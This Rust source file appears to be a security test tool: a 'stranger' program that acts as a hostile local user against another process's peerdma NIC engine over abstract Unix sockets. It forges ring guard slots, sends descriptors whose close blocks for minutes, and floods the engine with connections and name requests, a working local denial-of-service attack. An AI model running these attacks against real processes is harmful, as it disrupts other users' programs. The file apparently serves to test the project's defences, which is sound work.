//! A hostile local user: it speaks the protocol of the registry, by which the NIC engines of a host
//! find each other, to the engine of another user's process.
//!
//! ```text
//!   stranger ATTACK PID
//!
//!   guard    sends a ring whose guard slot claims that it copies for ever
//!   linger   sends descriptors that take minutes to close, in every message that can carry one; first it waits until the process
//!            is stopped, so that its own descriptors are not the last references
//!   rings    connects as often as it can: with long rings, with short ones, and without a message
//!   names    asks 700 times for a name of the connection manager
//!   table    connects once, and prints the number of descriptors in the answer
//! ```
//!
//! It prints "attacked" and what it holds, and keeps that for a minute and a half, or until it is
//! killed.
//!
//! Nothing here uses peerdma's own registry.

use std::fs;
use std::io::{self, IoSlice, IoSliceMut, Write};
use std::mem::MaybeUninit;
use std::net::{Ipv4Addr, TcpListener, TcpStream};
use std::os::fd::{AsFd, BorrowedFd, OwnedFd};
use std::process::ExitCode;
use std::time::{Duration, Instant};

use rustix::cmsg_space;
use rustix::event::{PollFd, PollFlags, Timespec, poll};
use rustix::fs::{MemfdFlags, SealFlags};
use rustix::net::{
    AddressFamily, RecvAncillaryBuffer, RecvAncillaryMessage, RecvFlags, SendAncillaryBuffer,
    SendAncillaryMessage, SendFlags, SocketAddrUnix, SocketFlags, SocketType, sockopt,
};
use rustix::process::{Resource, Rlimit};

type Done<T = ()> = Result<T, Box<dyn std::error::Error>>;

/// How long the victim may take to answer, and to be stopped.
const PATIENCE: Duration = Duration::from_secs(2);
/// How long it keeps what it took.
const KEPT: Duration = Duration::from_secs(90);
/// How long the kernel may block the closing of a descriptor.
const LINGER: Duration = Duration::from_secs(120);

const VFS: u16 = 1024;
const LEFT_TO_OTHERS: u16 = 64;
const SHORT: u64 = 4 << 10;
const LONG: u64 = 16 << 20;
/// Where the guard slot and the records of a ring's file begin.
const SLOT: u64 = 4096;
const RECORDS: u64 = 8192;

const HELLO: u32 = 1;
const WELCOME: u32 = 2;
const PING: u32 = 4;
const WAKE: u32 = 6;

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    match run(&args) {
        Ok(()) => ExitCode::SUCCESS,
        Err(error) => {
            eprintln!("stranger: {error}");
            ExitCode::FAILURE
        }
    }
}

fn run(args: &[String]) -> Done {
    let [attack, pid] = args else { return Err("stranger ATTACK PID".into()) };
    let pid = pid.parse()?;
    if attack == "names" {
        return names(pid);
    }
    let victim = Victim::find(pid)?;
    match attack.as_str() {
        "guard" => guard(&victim),
        "linger" => linger(&victim),
        "rings" => rings(&victim),
        "table" => table(&victim),
        _ => Err(format!("no attack {attack}").into()),
    }
}

fn guard(victim: &Victim) -> Done {
    let vf = Vf::take(&victim.nic)?;
    let socket = victim.dial()?;
    // Claims to copy by the first key, as by one key after another.
    let ring = ring(SHORT, 1 << 32 | 1)?;
    let bell = bell()?;
    vf.hello(victim, &socket, SHORT, &[ring.as_fd(), bell.as_fd()])?;
    let got = answer(&socket);
    keep(&format!("welcomed {}", got.is_some_and(|got| got.kind == WELCOME)))
}

fn linger(victim: &Victim) -> Done {
    let vf = Vf::take(&victim.nic)?;
    let (ring, bell) = (ring(SHORT, 0)?, bell()?);
    // An accepted peer.
    let peer = victim.dial()?;
    vf.hello(victim, &peer, SHORT, &[ring.as_fd(), bell.as_fd()])?;
    let got = answer(&peer);
    let is_welcome = got.is_some_and(|got| got.kind == WELCOME);
    wait_stopped(victim.pid)?;
    let others: Vec<Vf> = (0..3).map(|_| Vf::take(&victim.nic)).collect::<Done<_>>()?;
    let mut kept = vec![peer];
    let (mut readers, mut refused) = (Vec::new(), Vec::new());
    // In place of the ring, in addition to what is expected, and in place of the table.
    let sent = [slow(&mut readers)?, slow(&mut readers)?, slow(&mut readers)?];
    let right = [ring.as_fd(), bell.as_fd()];
    let hellos: [&[BorrowedFd<'_>]; 3] = [
        &[sent[0].as_fd(), bell.as_fd()],
        &[right[0], right[1], sent[1].as_fd()],
        &[right[0], right[1], bell.as_fd(), sent[2].as_fd()],
    ];
    for (vf, fds) in others.iter().zip(hellos) {
        let socket = victim.dial()?;
        vf.hello(victim, &socket, SHORT, fds)?;
        kept.push(socket);
    }
    drop(sent);
    for bytes in [message(PING, &[]), message(WAKE, &[]), b"nonsense".to_vec()] {
        let sent = slow(&mut readers)?;
        let socket = victim.dial()?;
        send(&socket, &bytes, &[sent.as_fd()])?;
        kept.push(socket);
    }
    // Messages of an accepted peer, first the expected one. It is correct if no more descriptors
    // can be sent.
    for bytes in [message(WAKE, &[]), message(PING, &[])] {
        let sent = slow(&mut readers)?;
        // Closing it blocks from here on.
        if send(&kept[0], &bytes, &[sent.as_fd()]).is_err() {
            refused.push(sent);
        }
    }
    keep(&format!("welcomed {is_welcome} sent {} refused {}", readers.len(), refused.len()))
}

fn rings(victim: &Victim) -> Done {
    let files = rustix::process::getrlimit(Resource::Nofile);
    let files = Rlimit { current: files.maximum, ..files };
    rustix::process::setrlimit(Resource::Nofile, files)?;
    let bell = bell()?;
    let (mut kept, mut welcomed) = (Vec::new(), 0);
    // Somewhat more than the limit of one user.
    for n in 0..300 {
        let capacity = if n < 32 { LONG } else { SHORT };
        let Ok(vf) = Vf::take(&victim.nic) else { break };
        let ring = ring(capacity, 0)?;
        // Twice for each: the second one is too many in any case.
        for _ in 0..2 {
            let Ok(socket) = victim.dial() else { continue };
            if vf.hello(victim, &socket, capacity, &[ring.as_fd(), bell.as_fd()]).is_ok() {
                welcomed += u32::from(answer(&socket).is_some_and(|got| got.kind == WELCOME));
            }
            kept.push(socket);
        }
        kept.push(vf.listener);
    }
    kept.extend((0..200).map_while(|_| victim.dial().ok()));
    keep(&format!("connections {} welcomed {welcomed}", kept.len()))
}

fn names(pid: i32) -> Done {
    let listeners = listeners()?;
    let of_victim = listeners.iter().filter(|name| name.contains("/cm/"));
    let is_victims = |name: &&String| dial(name).is_ok_and(|socket| pid_of(&socket) == Some(pid));
    let name = of_victim.into_iter().find(is_victims).ok_or("it has no names")?;
    let kept: Vec<_> = (0..700).map_while(|_| dial(name).ok()).collect();
    keep(&format!("connections {}", kept.len()))
}

fn table(victim: &Victim) -> Done {
    let vf = Vf::take(&victim.nic)?;
    let socket = victim.dial()?;
    let (ring, bell) = (ring(SHORT, 0)?, bell()?);
    vf.hello(victim, &socket, SHORT, &[ring.as_fd(), bell.as_fd()])?;
    let got = answer(&socket).ok_or("no answer")?;
    if got.kind != WELCOME {
        return Err(format!("not welcome: {}", got.text).into());
    }
    println!("descriptors {}", got.descriptors);
    Ok(())
}

/// Prints what was done, and keeps the process and its resources for a while.
fn keep(what: &str) -> Done {
    println!("attacked: {what}");
    io::stdout().flush()?;
    std::thread::sleep(KEPT);
    Ok(())
}

/// The engine of a process.
struct Victim {
    pid: i32,
    nic: String,
    vf: String,
    /// GUID, interface and settings of its NIC, which it tells a process with another NIC.
    identity: [u64; 3],
}

impl Victim {
    fn find(pid: i32) -> Done<Self> {
        let mut found = None;
        for name in listeners()? {
            if let Some((nic, vf)) =
                name.strip_prefix("peerdma/").and_then(|n| n.split_once("/vf/"))
                && dial(&name).is_ok_and(|socket| pid_of(&socket) == Some(pid))
            {
                found = Some((nic.to_owned(), vf.to_owned()));
            }
        }
        let (nic, vf) = found.ok_or("it has no NIC")?;
        let mut victim = Self { pid, nic, vf, identity: [0; 3] };
        let socket = victim.dial()?;
        Vf { number: 0, listener: new_socket()? }.hello(&victim, &socket, SHORT, &[])?;
        let got = answer(&socket).ok_or("it does not say what its NIC is")?;
        let said = got.text.rsplit_once("ours is ").map(|(_, said)| said);
        let words: Vec<&str> = said.unwrap_or_default().split_whitespace().collect();
        let [_, guid, _, _, ifindex, _, _, settings] = words[..] else {
            return Err(format!("no NIC in {:?}", got.text).into());
        };
        let hex = |word| u64::from_str_radix(word, 16);
        victim.identity = [hex(guid)?, ifindex.parse()?, hex(settings)?];
        Ok(victim)
    }

    fn dial(&self) -> io::Result<OwnedFd> {
        dial(&format!("peerdma/{}/vf/{}", self.nic, self.vf))
    }
}

/// A VF number of our own: a process that claims one must hold its name.
struct Vf {
    number: u16,
    listener: OwnedFd,
}

impl Vf {
    /// Takes the highest free number.
    fn take(nic: &str) -> Done<Self> {
        let listener = new_socket()?;
        for number in (LEFT_TO_OTHERS..VFS).rev() {
            let name =
                SocketAddrUnix::new_abstract_name(format!("peerdma/{nic}/vf/{number}").as_bytes());
            if rustix::net::bind(&listener, &name?).is_ok() {
                rustix::net::listen(&listener, 4096)?;
                return Ok(Self { number, listener });
            }
        }
        Err("no VF is free".into())
    }

    fn hello(
        &self,
        victim: &Victim,
        socket: &OwnedFd,
        capacity: u64,
        fds: &[BorrowedFd<'_>],
    ) -> io::Result<()> {
        let [guid, ifindex, settings] = victim.identity;
        let (pid, uid) = (std::process::id(), rustix::process::geteuid().as_raw());
        let who = [self.number.into(), pid.into(), uid.into(), guid, ifindex, settings];
        let what = [u64::from(self.number) + 1, 0x1000, 7, capacity];
        send(socket, &message(HELLO, &[&who[..], &what[..]].concat()), fds)
    }
}

/// A message, and the number of its descriptors.
struct Got {
    kind: u32,
    text: String,
    descriptors: usize,
}

/// The next message, if one arrives.
fn answer(socket: &OwnedFd) -> Option<Got> {
    let mut ready = [PollFd::new(socket, PollFlags::IN)];
    let patience = Timespec { tv_sec: PATIENCE.as_secs().cast_signed(), tv_nsec: 0 };
    if poll(&mut ready, Some(&patience)).ok()? == 0 {
        return None;
    }
    let mut bytes = [0; 1024];
    let mut space = [MaybeUninit::uninit(); cmsg_space!(ScmRights(4))];
    let mut control = RecvAncillaryBuffer::new(&mut space);
    let mut iov = [IoSliceMut::new(&mut bytes)];
    let got = rustix::net::recvmsg(socket, &mut iov, &mut control, RecvFlags::DONTWAIT).ok()?;
    let descriptors = control.drain().map(|message| match message {
        RecvAncillaryMessage::ScmRights(fds) => fds.count(),
        _ => 0,
    });
    let descriptors = descriptors.sum();
    let bytes = &bytes[..got.bytes];
    let kind = u32::from_ne_bytes(*bytes.get(12..16)?.first_chunk()?);
    let text = String::from_utf8_lossy(&bytes[16..]).into_owned();
    Some(Got { kind, text, descriptors })
}

fn message(kind: u32, words: &[u64]) -> Vec<u8> {
    let mut bytes = b"peerdma\x01".to_vec();
    bytes.extend(3_u32.to_ne_bytes());
    bytes.extend(kind.to_ne_bytes());
    bytes.extend(words.iter().flat_map(|word| word.to_ne_bytes()));
    bytes
}

fn send(socket: &OwnedFd, bytes: &[u8], fds: &[BorrowedFd<'_>]) -> io::Result<()> {
    let mut space = [MaybeUninit::uninit(); cmsg_space!(ScmRights(4))];
    let mut control = SendAncillaryBuffer::new(&mut space);
    if !fds.is_empty() {
        control.push(SendAncillaryMessage::ScmRights(fds));
    }
    let flags = SendFlags::DONTWAIT | SendFlags::NOSIGNAL;
    rustix::net::sendmsg(socket, &[IoSlice::new(bytes)], &mut control, flags)?;
    Ok(())
}

fn new_socket() -> io::Result<OwnedFd> {
    let flags = SocketFlags::CLOEXEC | SocketFlags::NONBLOCK;
    Ok(rustix::net::socket_with(AddressFamily::UNIX, SocketType::SEQPACKET, flags, None)?)
}

fn dial(name: &str) -> io::Result<OwnedFd> {
    let socket = new_socket()?;
    rustix::net::connect(&socket, &SocketAddrUnix::new_abstract_name(name.as_bytes())?)?;
    Ok(socket)
}

fn pid_of(socket: &OwnedFd) -> Option<i32> {
    sockopt::socket_peercred(socket).ok().map(|cred| cred.pid.as_raw_pid())
}

/// The names with a listener.
fn listeners() -> io::Result<Vec<String>> {
    let table = fs::read("/proc/net/unix")?;
    let table = String::from_utf8_lossy(&table);
    let names = table.lines().filter_map(|line| {
        let words: Vec<&str> = line.split_whitespace().collect();
        let name = words.get(7)?.strip_prefix('@')?;
        (words[3] == "00010000" && name.starts_with("peerdma/")).then(|| name.to_owned())
    });
    Ok(names.collect())
}

/// The file of a ring, as a peer creates it, with this word in its guard slot.
fn ring(capacity: u64, guard: u64) -> io::Result<OwnedFd> {
    let seals = SealFlags::SEAL | SealFlags::SHRINK | SealFlags::GROW;
    memory("stranger-ring", RECORDS + capacity, guard, seals)
}

fn bell() -> io::Result<OwnedFd> {
    let seals = SealFlags::SEAL | SealFlags::SHRINK | SealFlags::GROW | SealFlags::FUTURE_WRITE;
    memory("stranger-bell", 4096, 0, seals)
}

fn memory(name: &str, len: u64, guard: u64, seals: SealFlags) -> io::Result<OwnedFd> {
    let flags = MemfdFlags::CLOEXEC | MemfdFlags::ALLOW_SEALING;
    let file = rustix::fs::memfd_create(name, flags)?;
    rustix::fs::ftruncate(&file, len)?;
    if guard != 0 {
        rustix::io::pwrite(&file, &guard.to_ne_bytes(), SLOT)?;
    }
    rustix::fs::fcntl_add_seals(&file, seals)?;
    Ok(file)
}

/// A socket whose last close blocks: its peer, which is added to `readers`, does not read what was
/// sent.
fn slow(readers: &mut Vec<TcpStream>) -> io::Result<TcpStream> {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0))?;
    sockopt::set_socket_recv_buffer_size(&listener, 4096)?;
    let mut writer = TcpStream::connect(listener.local_addr()?)?;
    readers.push(listener.accept()?.0);
    writer.set_nonblocking(true)?;
    while writer.write(&[0; 4096]).is_ok() {}
    sockopt::set_socket_linger(&writer, Some(LINGER))?;
    Ok(writer)
}

/// Waits until every thread of a process is stopped: it takes later messages only after we have
/// closed the descriptors.
fn wait_stopped(pid: i32) -> Done {
    println!("connected");
    io::stdout().flush()?;
    let end = Instant::now() + 5 * PATIENCE;
    while Instant::now() < end {
        let tasks = fs::read_dir(format!("/proc/{pid}/task"))?;
        // A thread may end in the meantime.
        let states: Vec<_> = tasks
            .filter_map(|task| fs::read_to_string(task.ok()?.path().join("stat")).ok())
            .collect();
        if states.iter().all(|stat| stat.rsplit(") ").next().is_some_and(|s| s.starts_with('T'))) {
            return Ok(());
        }
        std::thread::sleep(Duration::from_millis(5));
    }
    Err("it was not stopped".into())
}
